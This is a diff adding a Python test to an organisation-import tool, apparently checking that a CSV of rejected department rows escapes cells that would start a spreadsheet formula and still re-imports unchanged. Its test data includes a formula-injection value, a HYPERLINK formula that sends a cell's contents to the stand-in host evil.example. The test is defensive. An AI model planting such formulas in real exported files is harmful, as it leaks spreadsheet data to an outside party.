@@ -305,6 +305,34 @@ def test_an_id_that_only_looks_like_a_stored_one_is_refused_and_a_stored_one_is_
     assert found is not None and found.name == "Anna de Vries"
 
 
+def test_a_rejected_rows_csv_marks_text_that_would_start_a_formula_and_imports_as_it_was(engine: Any,
+                                                                                        tmp_path: Path) -> None:
+    """The CSV file of rejected rows wrote ``=HYPERLINK(...)`` as it was: from a workbook's text cell (or with
+    ``--rejected x.csv``) it became a formula where the administrator opens it. A text that would start a formula
+    gets Excel's text mark ``'``, which the reader takes off again, so the fixed file imports as it was."""
+    import csv
+
+    names = ['=HYPERLINK("https://evil.example/?"&A2,"Klik")', "+31 6 12345678", "-5 graden", "@SUM(A1)",
+             "'t Hart"]
+    with (tmp_path / "afdelingen.csv").open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle, delimiter=";")
+        writer.writerow(["Code", "Naam", "Valt onder"])
+        writer.writerows([[f"d{i}", name, "bestaat-niet"] for i, name in enumerate(names)])
+    result = import_organisation(engine, [tmp_path / "afdelingen.csv"], skip_invalid=True, now=NOW)
+    assert len(result.rejected) == len(names)
+    [rejected] = write_rejected(result, tmp_path / "afdelingen-afgekeurd.csv")
+    with rejected.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))
+    assert [row[1] for row in rows[1:]] == ["'" + n for n in names[:4]] + ["'t Hart"]
+    with rejected.open("w", encoding="utf-8", newline="") as handle:  # the administrator fixes the parent cells
+        csv.writer(handle, delimiter=";").writerows([rows[0]] + [[*row[:2], "", *row[3:]] for row in rows[1:]])
+    again = import_organisation(engine, [rejected], now=NOW)
+    assert again.ok, again.lines()
+    with engine.connect() as conn:
+        stored = dict(conn.execute(sa.select(org_units.c.id, org_units.c.name)).all())
+    assert [stored[f"d{i}"] for i in range(len(names))] == names
+
+
 def test_cli_text_and_json(tmp_path: Path) -> None:
     from regelwerk.cli import cli
     from regelwerk.registry import load_registry
